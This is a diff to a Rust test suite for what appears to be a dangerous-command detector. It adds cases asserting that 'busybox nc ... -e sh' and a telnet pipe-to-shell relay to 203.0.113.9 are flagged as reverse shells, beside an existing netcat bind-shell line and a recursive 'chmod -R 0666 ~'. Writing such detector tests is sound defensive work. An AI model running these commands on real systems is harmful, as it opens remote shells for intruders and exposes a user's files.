@@ -335,6 +335,11 @@ fn decoded_or_downloaded_then_run_on_a_later_line() {
 fn reverse_shells_bind_shells_and_recursive_permissions() {
     use DangerKind::{ReverseShell as R, WorldWritable as W};
     assert_eq!(only("nc -l -p 4441 -e /bin/bash"), [R]);
+    assert_eq!(only("busybox nc 203.0.113.9 4444 -e sh"), [R]);
+    assert_eq!(
+        only("telnet 203.0.113.9 80 | /bin/sh | telnet 203.0.113.9 81"),
+        [R]
+    );
     assert_eq!(
         shown("chmod -R 0666 ~"),
         [(W, "chmod -R 0666 ~".to_string())]
